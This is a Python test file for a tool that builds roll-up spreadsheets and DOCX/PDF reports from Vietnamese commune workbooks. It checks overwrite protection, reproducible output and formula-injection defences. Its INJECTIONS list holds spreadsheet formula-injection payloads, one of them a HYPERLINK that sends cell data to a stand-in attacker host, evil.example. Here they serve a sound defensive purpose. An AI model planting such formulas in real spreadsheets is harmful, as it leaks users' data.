"""What the program writes: never an input, never a live formula, the same bytes twice, DOCX+PDF as one set."""

import os
import stat
import sys
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook

from builders import build_workbook, sample, set_info
from refusals import sha
from pipeline import output
from pipeline.workbook import format as F
from pipeline.cli import main

ROLLUP = ["--co-quan", "ỦY BAN NHÂN DÂN TỈNH QUẢNG TRỊ", "--dia-danh", "Quảng Trị", "--nguoi-ky", "Nguyễn Văn An",
          "--so", "12", "--ngay", "10/4/2024"]
INJECTIONS = ['=HYPERLINK("http://evil.example/?leak="&B2,"Xem")', "=1+1", "+SUM(A1:A9)", "-2+3", "@cmd"]


def commune(folder: Path, name: str, issuer: str, mutate=None) -> Path:
    sheets = sample()
    set_info(sheets, F.INFO_ISSUER, issuer)
    if mutate:
        mutate(sheets)
    folder.mkdir(parents=True, exist_ok=True)
    return build_workbook(folder / name, sheets)


def tong_hop(*args):
    return CliRunner().invoke(main, ["tong-hop", *args, *ROLLUP])


# ------------------------------------------------------------------------------ inputs are never written


def test_a_commune_workbook_with_the_rollups_name_is_never_replaced(tmp_path):
    """`tong-hop --input-dir OUT/2024-Q1/tong-hop --out OUT`: the input would be the roll-up's own target."""
    out = tmp_path / "OUT"
    folder = out / "2024-Q1" / "tong-hop"
    victim = commune(folder, "tinh-quang-tri_tong-hop-quy-1-2024.xlsx", "ỦY BAN NHÂN DÂN XÃ HẢI ĐỊNH")
    commune(folder, "b.xlsx", "ỦY BAN NHÂN DÂN XÃ HẢI SƠN")
    before = sha(victim)
    result = tong_hop("--input-dir", str(folder), "--out", str(out))
    assert result.exit_code == 1, result.output
    assert "trùng với một tệp đầu vào" in result.stderr and str(victim) in result.stderr
    assert "Traceback" not in result.output
    assert sha(victim) == before
    assert sorted(p.name for p in folder.iterdir()) == ["b.xlsx", victim.name]


def test_a_template_folder_inside_the_output_is_never_written(tmp_path, sample_workbook):
    from pipeline.generate import planned_files, render_workbook, write_run
    from pipeline.render import TemplateSet, default_templates_dir

    templates = tmp_path / "mau"
    templates.mkdir()
    for source in default_templates_dir().glob("*.docx"):
        (templates / source.name).write_bytes(source.read_bytes())
    run = render_workbook(sample_workbook, 1, TemplateSet(templates))
    target = templates / run.files[0][0]
    target.write_bytes(b"template")  # a template file named like an output: hard-linked below
    os.link(templates / "ke-hoach.docx", tmp_path / "link.docx")
    with pytest.raises(output.OutputProblem, match="trùng với một tệp đầu vào"):
        output.write_files([output.PlannedFile(tmp_path / "link.docx", b"x")], run.inputs)
    assert planned_files(run, templates) and write_run(run, tmp_path / "out")  # elsewhere: written


# ------------------------------------------------------------------------------ formula injection


def test_text_from_a_commune_is_text_in_the_rollup_workbook(tmp_path):
    def overdue_task_4(sheets):
        sheets[F.SHEET_RESULTS] = [r for r in sheets[F.SHEET_RESULTS] if r[0] != 4]
        sheets[F.SHEET_TASKS][3][5] = "Trước ngày 10/3/2024"  # due before quý I's cut-off (14/3)

    communes = tmp_path / "cac-xa"
    path = commune(communes, "a.xlsx", "ỦY BAN NHÂN DÂN XÃ HẢI ĐỊNH", overdue_task_4)
    wb = load_workbook(path)
    ws = wb[F.SHEET_TASKS]
    row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == 4)
    for cell, text in zip(row[1:4], INJECTIONS):  # typed as text in Excel (a leading ' or a text cell)
        cell.value = text
        cell.data_type = "s"
    wb.save(path)
    result = tong_hop("--input-dir", str(communes), "--out", str(tmp_path / "out"))
    assert result.exit_code == 0, result.output
    produced = next((tmp_path / "out").rglob("*.xlsx"))
    with zipfile.ZipFile(produced) as zf:
        sheets = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in sheets and b"<f " not in sheets
    wb = load_workbook(produced)
    cells = [c for row in wb["Nhiệm vụ quá hạn"].iter_rows(min_row=2) for c in row]
    injected = [c for c in cells if c.value in INJECTIONS]
    assert {c.value for c in injected} == set(INJECTIONS[:3])
    assert all(c.data_type == "s" and c.quotePrefix for c in injected)


def test_every_string_is_typed_text_by_the_writer():
    from openpyxl import Workbook

    from pipeline.xlsx_output import row_of

    ws = Workbook().active
    row = row_of(ws, [*INJECTIONS, "bình thường", 3, "\ud800x\x01"])
    assert [c.data_type for c in row][:6] == ["s"] * 6
    assert all(c.quotePrefix for c in row[:5]) and not row[5].quotePrefix
    assert row[6].value == 3 and row[7].value == "x"


# ------------------------------------------------------------------------------ the same bytes twice


def test_the_rollup_workbook_is_the_same_bytes_in_two_runs(tmp_path):
    communes = tmp_path / "cac-xa"
    commune(communes, "a.xlsx", "ỦY BAN NHÂN DÂN XÃ HẢI ĐỊNH")
    digests = []
    for i in range(2):
        assert tong_hop("--input-dir", str(communes), "--out", str(tmp_path / f"out{i}")).exit_code == 0
        digests.append(sha(next((tmp_path / f"out{i}").rglob("*.xlsx"))))
        time.sleep(1.1)  # a clock-stamped part would now differ
    assert digests[0] == digests[1]


# ------------------------------------------------------------------------------ abandoned temporary files


def test_temp_files_of_a_killed_run_are_removed_by_the_next(tmp_path, sample_workbook):
    import subprocess

    folder = tmp_path / "out" / "2024-Q1"
    folder.mkdir(parents=True)
    dead = subprocess.Popen([sys.executable, "-c", "pass"])
    dead.wait()
    orphan = folder / f".~xa-hai-dinh_ke-hoach-2024.docx.p{dead.pid}.abc123.tmp"
    orphan.write_bytes(b"half")
    mine = folder / f".~other.docx.p{os.getpid()}.zzz.tmp"  # a live process's: left alone
    mine.write_bytes(b"")
    assert CliRunner().invoke(main, [str(sample_workbook), "--out", str(tmp_path / "out")]).exit_code == 0
    assert not orphan.exists() and mine.exists()


def test_the_cache_folder_keeps_no_temp_file_when_a_write_fails(tmp_path, monkeypatch):
    from pipeline.render import cache as render

    cache = render.CompileCache(tmp_path / "cache")

    def full_disk(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(render.marshal, "dumps", full_disk)
    cache.store(b"<w:document/>", "source", compile("1", "x", "eval"))
    assert not list((tmp_path / "cache").glob("*.tmp"))


# ------------------------------------------------------------------------------ DOCX and PDF: one set


@pytest.fixture
def fake_libreoffice(tmp_path, monkeypatch) -> Path:
    """A stand-in for soffice that writes a small PDF per DOCX into --outdir."""
    script = tmp_path / "soffice"
    script.write_text(
        f"#!{sys.executable}\n"
        "import sys, pathlib\n"
        "args = sys.argv[1:]\n"
        "out = pathlib.Path(args[args.index('--outdir') + 1]); out.mkdir(parents=True, exist_ok=True)\n"
        "for a in args:\n"
        "    if a.endswith('.docx'):\n"
        "        (out / (pathlib.Path(a).stem + '.pdf')).write_bytes(b'%PDF-1.4 ' + pathlib.Path(a).name.encode())\n"
    )
    script.chmod(0o755)
    monkeypatch.setattr(output, "find_libreoffice", lambda: str(script))
    monkeypatch.setattr(output, "substituted_fonts", lambda pdf: set())
    return script


def test_a_pdf_that_cannot_be_replaced_keeps_every_file_of_the_run(tmp_path, sample_workbook, fake_libreoffice):
    out = tmp_path / "out"
    assert CliRunner().invoke(main, [str(sample_workbook), "--out", str(out), "--pdf"]).exit_code == 0
    folder = out / "2024-Q1"
    assert len(list(folder.glob("*.pdf"))) == 3
    sheets = sample()
    sheets[F.SHEET_TASKS][0][2] = "Giải pháp đã sửa"
    changed = build_workbook(tmp_path / "moi.xlsx", sheets)
    locked = folder / "xa-hai-dinh_phu-luc-ke-hoach-2024.pdf"
    locked.unlink()
    locked.mkdir()  # stands for a PDF held open by a viewer on Windows
    before = {p.name: (p.read_bytes() if p.is_file() else None) for p in folder.iterdir()}
    result = CliRunner().invoke(main, [str(changed), "--out", str(out), "--pdf"])
    assert result.exit_code == 1
    assert f"Lỗi ghi tệp: {locked}" in result.stderr and "trình xem PDF" in result.stderr
    assert "Word" not in result.stderr.split("Lỗi ghi tệp:")[1].split("\n")[0]
    assert {p.name: (p.read_bytes() if p.is_file() else None) for p in folder.iterdir()} == before


def test_a_read_only_pdf_is_named_and_nothing_is_replaced(tmp_path, sample_workbook, fake_libreoffice, monkeypatch):
    out = tmp_path / "out"
    assert CliRunner().invoke(main, [str(sample_workbook), "--out", str(out), "--pdf"]).exit_code == 0
    folder = out / "2024-Q1"
    pdf = folder / "xa-hai-dinh_ke-hoach-2024.pdf"
    real_open = Path.open

    def read_only(self, mode="r", *args, **kwargs):  # root ignores chmod: refuse writing this one file
        if self == pdf and "+" in mode:
            raise PermissionError(13, "Permission denied")
        return real_open(self, mode, *args, **kwargs)

    monkeypatch.setattr(Path, "open", read_only)
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    sheets = sample()
    sheets[F.SHEET_TASKS][0][2] = "Giải pháp đã sửa"
    result = CliRunner().invoke(main, [str(build_workbook(tmp_path / "moi.xlsx", sheets)), "--out", str(out), "--pdf"])
    assert result.exit_code == 1 and str(pdf) in result.stderr and "PDF" in result.stderr
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == before


def test_a_batch_writes_each_workbooks_docx_and_pdf_together(tmp_path, fake_libreoffice):
    folder = tmp_path / "cac-xa"
    commune(folder, "a.xlsx", "ỦY BAN NHÂN DÂN XÃ HẢI ĐỊNH")
    commune(folder, "b.xlsx", "ỦY BAN NHÂN DÂN XÃ HẢI SƠN")
    result = CliRunner().invoke(main, ["--input-dir", str(folder), "--out", str(tmp_path / "out"), "--pdf", "-j", "1"])
    assert result.exit_code == 0, result.output
    for agency in ("xa-hai-dinh", "xa-hai-son"):
        files = sorted(p.suffix for p in (tmp_path / "out" / "2024-Q1" / agency).iterdir())
        assert files == [".docx"] * 3 + [".pdf"] * 3
    pdf = tmp_path / "out" / "2024-Q1" / "xa-hai-son" / "xa-hai-son_ke-hoach-2024.pdf"
    assert pdf.read_bytes().endswith(b"_xa-hai-son_ke-hoach-2024.docx")
    assert stat.S_ISREG(pdf.stat().st_mode)
    # The documents waited on the disk for their PDFs: each came back under its own name.
    plain = CliRunner().invoke(main, ["--input-dir", str(folder), "--out", str(tmp_path / "plain"), "-j", "1"])
    assert plain.exit_code == 0, plain.output
    docx = {p.relative_to(tmp_path / "out"): p.read_bytes() for p in (tmp_path / "out").rglob("*.docx")}
    assert docx == {p.relative_to(tmp_path / "plain"): p.read_bytes() for p in (tmp_path / "plain").rglob("*.docx")}
    assert not list((tmp_path / "out").rglob(".~*"))


# ------------------------------------------------------------------------------ reproducible PDFs

HAVE_LIBREOFFICE = output.find_libreoffice() is not None


@pytest.mark.skipif(not HAVE_LIBREOFFICE and not os.environ.get("CI"), reason="LibreOffice not installed")
def test_the_same_workbook_gives_the_same_pdf_bytes(tmp_path, sample_workbook):
    digests = []
    for i in range(2):
        out = tmp_path / f"out{i}"
        result = CliRunner().invoke(main, [str(sample_workbook), "--out", str(out), "--pdf"])
        assert result.exit_code == 0, result.output
        digests.append({p.name: sha(p) for p in sorted(out.rglob("*.pdf"))})
        time.sleep(1.1)  # LibreOffice's clock-stamped /CreationDate would now differ
    assert len(digests[0]) == 3 and digests[0] == digests[1]


def test_reproducible_pdf_keeps_the_length_and_takes_the_documents_date(sample_outputs):
    docx = sample_outputs["_ke-hoach-"].read_bytes()
    pdf = (b"%PDF-1.4\n/CreationDate(D:20261127033323Z')\ntrailer /ID [ <65B9B8D676F2569801061FF5DD09C1C7>\n"
           b"<65B9B8D676F2569801061FF5DD09C1C7> ]")
    fixed = output.reproducible_pdf(pdf, docx)
    assert len(fixed) == len(pdf)
    assert b"/CreationDate(D:20240305" in fixed and b"65B9B8D6" not in fixed
    assert fixed == output.reproducible_pdf(pdf.replace(b"033323", b"101010"), docx)
